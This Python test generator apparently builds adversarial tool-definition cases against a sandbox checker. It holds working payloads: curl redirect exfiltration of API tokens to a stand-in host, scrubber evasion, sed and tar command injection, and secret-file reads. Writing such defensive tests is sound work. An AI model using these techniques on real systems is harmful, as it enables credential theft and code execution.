# Round thirty attacks (exec'd by gen_attacks.py; uses A, T, SH, ARITH, SEDE, AWKNR, SEC).
import textwrap


def R(name, cls, desc, argdefs, script, args, why, secrets="", head="", **extra):
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\nargs:\n" % (name.replace("-", "_"), desc)
    for k, v in argdefs.items():
        y += "  %s: %s\n" % (k, v)
    y += "required: [%s]\n" % ", ".join(req)
    y += secrets + head
    y += "timeout: 30\nsteps:\n  - name: s\n    run: |\n"
    y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R2(name, cls, desc, argdefs, s1, s2, args, why, secrets="", **extra):
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\nargs:\n" % (name.replace("-", "_"), desc)
    for k, v in argdefs.items():
        y += "  %s: %s\n" % (k, v)
    y += "required: [%s]\n" % ", ".join(req)
    y += secrets
    y += "timeout: 30\nsteps:\n  - name: facts\n    run: |\n"
    y += textwrap.indent(textwrap.dedent(s1).strip() + "\n", "      ")
    y += "  - name: report\n    run: |\n"
    y += textwrap.indent(textwrap.dedent(s2).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


TXT = '{type: string, minLength: 1, maxLength: 300, description: "free text"}'
MTXT = '{type: string, minLength: 1, maxLength: 400, multiline: true, description: "free text, several lines allowed"}'
PATHA = '{type: string, pattern: "^[a-z0-9._][a-z0-9/._-]*$", maxLength: 200, description: "API path under /v1/"}'
BUILD = '{type: string, pattern: "^[0-9]+$", maxLength: 9, description: "build number"}'
R307 = "../go307/127.0.0.1/18765/steal"
R302 = "../go/127.0.0.1/18765/steal"

# ===================================================== curl -L with the secret in a request body
BODY = ("Round eighteen refuses, for `curl -L` with a secret while the caller chooses the path, a header other than "
        "`Authorization:`/`Cookie:` and `--location-trusted`; round nineteen a netrc or config file; round twenty a "
        "secret in a body read from stdin. A body given on the command line is none of these, and `--data`-like options "
        "are credential places of curl (exports.md, 'Where a secret may go'). curl keeps the method and resends the "
        "body on a 307/308: the author's API (:18766) answers /go307/HOST/PORT/REST with a 307 to the caller's :18765. ")
for nm, opt, note in [
    ("curl-follow-data-arg", '-d "token=$API_TOKEN"', "`-d token=SECRET` as an argument."),
    ("curl-follow-data-urlencode", '--data-urlencode "token=$API_TOKEN"', "`--data-urlencode` (the body is the urlencoded secret)."),
    ("curl-follow-form", '-F "token=$API_TOKEN"', "`-F` multipart form field."),
    ("curl-follow-json", '--json "{\\"token\\": \\"$API_TOKEN\\"}"', "`--json` (curl 7.82+) body."),
]:
    R(nm, "curl-follow-body", "Post a token-authenticated request to the internal API.",
      {"path": PATHA}, '''
      curl -sS -L %s "http://127.0.0.1:18766/v1/$ARG_path"
    ''' % opt, {"path": R307}, BODY + note, secrets=SEC)
R("curl-follow-data-file", "curl-follow-body", "Post a token-authenticated request to the internal API (body kept in a file).",
  {"path": PATHA}, '''
  body="$HARBOR_RUN_DIR/body.txt"
  printf 'token=%s' "$API_TOKEN" > "$body"
  curl -sS -L --data-binary @"$body" "http://127.0.0.1:18766/v1/$ARG_path"
''', {"path": R307}, BODY + "`--data-binary @FILE` of a run-directory file written from the secret (a credential file curl reads, "
  "like `curl -K`, round twenty-two).", secrets=SEC)

R("curl-follow-url-query", "curl-follow-query", "Fetch an API resource; the API key goes in the query string.",
  {"path": PATHA}, '''
  curl -sS -L "http://127.0.0.1:18766/v1/$ARG_path?api_key=$API_TOKEN"
''', {"path": R302}, "curl's URL is a credential place (exports.md, 'Where a secret may go': `curl -H`/`-u`/`--data` and its URL); "
  "the URL starts with the author's scheme and host, and `curl -L` is refused only for a header other than Authorization/Cookie, "
  "`--location-trusted`, a netrc/config or a stdin body. The author's API redirects the path form /go/HOST/PORT/REST and keeps "
  "the query: the caller's :18765 gets `?api_key=SECRET` in its request line.", secrets=SEC)

# ===================================================== curl -w prints the URL (with the secret in it)
WO = ("curl's URL is a credential place; what curl prints is the answer of the author's API (the docs' printing options of "
      "curl are `-v`, `--trace`, a config's `verbose`/`trace`, `-v` in a cluster). `-w` is none of them, but `%{url_effective}` "
      "(and `%{json}`) print the URL with the secret in its query. The printed text is changed (upper case, base64) so the "
      "verbatim scrubber misses it. ")
R("curl-writeout-url-upper", "curl-writeout", "Check that the items endpoint answers; report the status.",
  {"q": '{type: string, pattern: "^[a-z0-9]+$", maxLength: 40, description: "search word"}'}, '''
  res=$(curl -sS -o "$HARBOR_RUN_DIR/body.json" -w '%{http_code} %{url_effective}' "http://127.0.0.1:18766/v1/items?api_key=$API_TOKEN&q=$ARG_q")
  echo "CHECK: ${res^^}"
''', {"q": "widgets"}, WO + "Captured, then printed as `${res^^}`.", secrets=SEC)
R("curl-writeout-json-base64", "curl-writeout", "Check that the items endpoint answers; log the transfer summary.",
  {"q": '{type: string, pattern: "^[a-z0-9]+$", maxLength: 40, description: "search word"}'}, '''
  meta=$(curl -sS -o "$HARBOR_RUN_DIR/body.json" -w '%{json}' "http://127.0.0.1:18766/v1/items?api_key=$API_TOKEN&q=$ARG_q")
  printf '%s' "$meta" | jq -c '{code: .http_code, url: .url_effective}' | base64 -w0
  echo
''', {"q": "widgets"}, WO + "`-w '%{json}'` through jq and base64.", secrets=SEC)

# ===================================================== step output: a caller's line break writes another key
OK = ("exports.md, 'Passing results between steps': an output written as `echo \"key=$v\"` (or `printf 'key=%s\\n' \"$v\"`) "
      "holds exactly `$v`'s text, the author's count stays the author's number, and a key written twice keeps the value of "
      "its LAST line. A multiline value (`multiline: true`) written after the count holds a line `count=…` that replaces the "
      "author's count; the next step reads `$STEP_facts_count` as the digits it was shown to be. ")
R2("output-key-multiline-arith", "output-key-newline", "Count the log lines and attach the caller's notes; report the total.",
   {"notes": MTXT}, '''
   n=$(wc -l < logs/app.log)
   echo "count=$n" >> "$HARBOR_STEP_OUTPUT"
   echo "notes=$ARG_notes" >> "$HARBOR_STEP_OUTPUT"
''', '''
   (( total = STEP_facts_count + 1 ))
   echo "total with header: $total"
''', {"notes": "looks fine\ncount=" + ARITH}, OK + "Used in arithmetic.")
R2("output-key-multiline-sed", "output-key-newline", "Count the errors and keep the caller's comment; print that many log lines.",
   {"comment": MTXT}, '''
   n=$(grep -c ERROR logs/app.log || true)
   printf 'count=%s\n' "$n" >> "$HARBOR_STEP_OUTPUT"
   printf 'comment=%s\n' "$ARG_comment" >> "$HARBOR_STEP_OUTPUT"
''', '''
   sed -n "1,${STEP_facts_count}p" logs/app.log
''', {"comment": "see above\ncount=1p;" + "1e " + SH + " #"}, OK + "`printf 'key=%s\\n'` form; used in a sed program (`1,${count}p`), "
   "where a number is inert (security.md rule 5), and the injected `1p;1e CMD #` runs CMD.")
R2("output-key-replace-newline", "output-key-newline", "Record the tags (one per line) and the number of log files; list the newest.",
   {"tags": '{type: string, pattern: "^[^\\\\n]+$", maxLength: 200, description: "comma-separated tags"}'}, '''
   n=$(ls logs | wc -l)
   echo "count=$n" >> "$HARBOR_STEP_OUTPUT"
   echo "tags=${ARG_tags//,/$'\\n'}" >> "$HARBOR_STEP_OUTPUT"
''', '''
   awk "NR <= $STEP_facts_count" logs/app.log
''', {"tags": "a,count=" + AWKNR}, OK + "No multiline arg: `${x//,/$'\\n'}` gives any text (rule 3), still only the `tags` key's "
   "text to the model, but its line break starts a `count=` line. Used in an awk program (`NR <= N`), inert for digits.")
R2("output-key-block-delimiter", "output-key-newline", "Keep the caller's summary as a multi-line output beside the error count.",
   {"summary": MTXT}, '''
   n=$(grep -c . logs/app.log)
   echo "count=$n" >> "$HARBOR_STEP_OUTPUT"
   echo "summary<<EOS" >> "$HARBOR_STEP_OUTPUT"
   printf '%s\n' "$ARG_summary" >> "$HARBOR_STEP_OUTPUT"
   echo "EOS" >> "$HARBOR_STEP_OUTPUT"
''', '''
   (( pages = (STEP_facts_count + 9) / 10 ))
   echo "pages: $pages"
''', {"summary": "all good\nEOS\ncount=" + ARITH}, OK + "The documented `key<<EOF` block: a caller line `EOS` closes it early and "
   "the lines after it are keys again.")

# ===================================================== array-or-string arg read as a JSON array
AS = ("Round twenty-eight: `mapfile -t a < <(jq -r '.[]' <<< \"$ARG_xs\")` (or a `read -r` loop) of an array arg gives "
      "each element as one item, as its `items` schema says (here digits). The arg is `type: [array, string]` (a list of "
      "ids, or one): `pattern` may not stand on it (not only strings), `items` applies to arrays only, so a string whose "
      "text is a JSON array of anything passes validation, and jq reads it as the array. ")
IDS = '{type: [array, string], items: {type: string, pattern: "^[0-9]+$"}, maxLength: 200, description: "order ids (a list, or one id)"}'
R("array-or-string-mapfile", "array-or-string-jq", "Sum the quantities of the given orders.",
  {"ids": IDS}, '''
  mapfile -t ids < <(jq -r '.[]' <<< "$ARG_ids")
  total=0
  for id in "${ids[@]}"; do
    (( total += id ))
  done
  echo "sum of ids: $total"
''', {"ids": '["3", "' + ARITH + '"]'}, AS + "Each element in arithmetic.")
R("array-or-string-read-loop", "array-or-string-jq", "Print the given lines of the app log.",
  {"lines": '{type: [array, string], items: {type: string, pattern: "^[0-9]+$"}, maxLength: 200, description: "line numbers (a list, or one)"}'}, '''
  while read -r ln; do
    sed -n "${ln}p" logs/app.log
  done < <(jq -r '.[]' <<< "$ARG_lines")
''', {"lines": '["1", "' + SEDE + '"]'}, AS + "`read -r` loop; each element in a sed program.")

# ===================================================== an unquoted value that cannot split still globs
BUNDLE = "H4sIABzKFmsC/+3TsWsCMRQG8Mz3V2QoRQs5k4vG6QotFZxUXJzP9EGk7eVIUuqf38NJrtBFPRG/3/KyPDJ87xPCOrIfjd/VqVTsImTLjMeH2erOv28ltZowLlkPvmOqQvs9u0/iKH9R2bTzdUl7smV0vMmju07+2mjk34tzZXxK/qooOrdgJloj/z6QdZ7PX9avy7VYbRazN/EwGJin6XDIn/kofTUjV4WtDyJoKZqfmt6z/1Yei4zBDal9opinfbpi/6Uynf5PDfrfj0CfVEXihztAdwEAAAAAAAAAAAAAAAAAbtYvk/+5dQAoAAA="
GL = ("Round twenty: an unquoted expansion before `--` is refused when it can split and its value may hold a `-`. Here the "
      "pattern admits no blank and no `-` (nothing to split, no option), so `$ARG_files` is one word that cannot be an "
      "option; but it may hold `*`, and bash globs the unquoted word: in the folder the caller's bundle was unpacked in "
      "(the run directory, as exports.md asks), `*` lists `--checkpoint=1` and `--checkpoint-action=exec=sh p.sh`, which "
      "tar reads as options. The docs treat a literal glob in such a folder as the caller's; a caller value that globs is "
      "not mentioned. ")
FILES = '{type: string, pattern: "^[A-Za-z0-9_.*?]+$", maxLength: 100, description: "files of the bundle to repack (names or wildcards)"}'
UP = '{type: string, contentEncoding: base64, contentMediaType: application/gzip, description: "a .tar.gz bundle"}'
R("glob-value-tar", "glob-unquoted-value", "Repack selected files of an uploaded bundle.",
  {"bundle": UP, "files": FILES}, '''
  dir="$HARBOR_RUN_DIR/bundle"
  mkdir -p "$dir"
  tar -xzf "$ARG_bundle" -C "$dir"
  cd "$dir"
  tar -czf "$HARBOR_RUN_DIR/subset.tgz" $ARG_files
  echo "repacked"
''', {"bundle": BUNDLE, "files": "*"}, GL + "`tar -czf OUT $ARG_files` after `cd`.")
R("glob-value-tar-subshell", "glob-unquoted-value", "List and repack selected files of an uploaded bundle.",
  {"bundle": UP, "files": FILES}, '''
  dir="$HARBOR_RUN_DIR/bundle"
  mkdir -p "$dir"
  tar -xzf "$ARG_bundle" -C "$dir"
  (cd "$dir" && tar -cf "$HARBOR_RUN_DIR/subset.tar" $ARG_files)
  gzip "$HARBOR_RUN_DIR/subset.tar"
  echo "repacked"
''', {"bundle": BUNDLE, "files": "?*"}, GL + "In a subshell `(cd DIR && tar -cf OUT $ARG_files)`; `?*` lists both option names and `p.sh`.")

# ===================================================== a sibling's absolute {file:} secret, read by a caller path
T("db_backup", """
name: db_backup
description: Dump the orders table of the author's database.
secrets:
  DB_PASSWORD: {file: /run/secrets/r30_db}
timeout: 30
steps:
  - name: dump
    run: |
      PGPASSWORD="$DB_PASSWORD" pg_dump -h 127.0.0.1 -p 15432 -U app -t orders app > "$HARBOR_RUN_DIR/orders.sql" || true
      wc -l < "$HARBOR_RUN_DIR/orders.sql"
""")
SIB = ("Round eighteen refuses, by the gate of the exports served together, a `{file:}` secret whose path is relative while "
       "another export takes a caller path `within:` a folder, and tells the author to 'use an absolute path such as "
       "/run/secrets/NAME'. The sibling `db_backup` does so. This export takes a path without `within:` (reading a file the "
       "caller names is only W103, a warning: 'the sandbox limits what a run can reach', and the default sandbox blocks "
       "only the server's state/config folders). The caller names /run/secrets/r30_db; this run has no secret, so its "
       "scrubber masks nothing. ")
LOGP = '{type: string, pattern: "^[A-Za-z0-9_./-]+$", maxLength: 200, description: "log file to show"}'
for nm, cmd, note in [
    ("sibling-secret-file-tail", 'tail -n 100 -- "$ARG_path"', "`tail`."),
    ("sibling-secret-file-base64", 'base64 -- "$ARG_path"', "`base64` (encoded form)."),
    ("sibling-secret-file-jq-raw", 'jq -R . -- "$ARG_path"', "`jq -R .` prints each line as a JSON string."),
    ("sibling-secret-file-grep", 'grep -n "" -- "$ARG_path"', "`grep -n ''` prints numbered lines."),
]:
    R(nm, "sibling-secret-file", "Show the end of a log file.", {"path": LOGP}, cmd,
      {"path": "/run/secrets/r30_db"}, SIB + note, served_with=["db_backup"])

# ===================================================== git follows the initial redirect with http.extraHeader
R("git-extraheader-follow", "git-follow-header", "List the branches of an internal repository.",
  {"repo": PATHA}, '''
  GIT_TERMINAL_PROMPT=0 git -c http.extraHeader="X-Api-Key: $API_TOKEN" ls-remote --heads "http://127.0.0.1:18766/git/$ARG_repo" || true
''', {"repo": R302}, "Round eighteen names redirect-following programs (wget, `curl -L`); git is not among them, though its "
  "`http.followRedirects` default (`initial`) follows a redirect of the first request and libcurl resends every custom "
  "header but Authorization/Cookie to the new host. The secret is the author's value of the author's `-c` key (the docs "
  "refuse caller data there, not a secret), the URL has the author's scheme and host. The author's API redirects "
  "/go/HOST/PORT/REST: the caller's :18765 gets `X-Api-Key`.", secrets=SEC)

# ===================================================== exit 0 in a subshell: a guard that does not leave
GX = ("security.md rule 5: 'A guard leaves only where bash leaves: continue/break in a loop of the same function, return "
      "in a function, exit anywhere'; round twenty-one refused continue/break in a subshell or a pipeline stage, but exit "
      "is 'anywhere'. An `exit` in a subshell leaves only the subshell; with `exit 0` (nothing to do) `-e` does not stop the "
      "parent either, and the parent evaluates the unchecked build number in arithmetic. ")
R("guard-exit0-pipeline-stage", "guard-exit-subshell", "Compute the next build number (logged).",
  {"build": TXT}, '''
  {
    echo "build requested: $ARG_build"
    [[ $ARG_build =~ ^[0-9]+$ ]] || { echo "not a build number, nothing to do"; exit 0; }
    echo "build number ok"
  } | tee "$HARBOR_RUN_DIR/check.log"
  (( next = ARG_build + 1 ))
  echo "next build: $next"
''', {"build": ARITH}, GX + "The guard in a group that is a pipeline's first stage.")
R("guard-exit0-subshell", "guard-exit-subshell", "Compute the next build number of a release folder.",
  {"build": TXT}, '''
  (
    cd releases
    [[ $ARG_build =~ ^[0-9]+$ ]] || exit 0
    ls
  )
  (( next = ARG_build + 1 ))
  echo "next build: $next"
''', {"build": ARITH}, GX + "The guard in `( … )` (the subshell keeps the `cd` local, as round twenty-eight allows).")
R("guard-exit0-command-subst", "guard-exit-subshell", "Compute the next build number and a note.",
  {"build": TXT}, '''
  note=$(
    [[ $ARG_build =~ ^[0-9]+$ ]] || { echo "skipped"; exit 0; }
    echo "build $ARG_build"
  )
  echo "$note"
  (( next = ARG_build + 1 ))
  echo "next build: $next"
''', {"build": ARITH}, GX + "The guard in a command substitution.")
R("guard-exit0-function-pipeline", "guard-exit-subshell", "Validate and compute the next build number.",
  {"build": TXT}, '''
  check() {
    [[ $ARG_build =~ ^[0-9]+$ ]] || { echo "not a build number"; exit 0; }
    echo "ok"
  }
  check | tee "$HARBOR_RUN_DIR/check.log"
  (( next = ARG_build + 1 ))
  echo "next build: $next"
''', {"build": ARITH}, GX + "A function whose guard exits, called as a pipeline stage.")
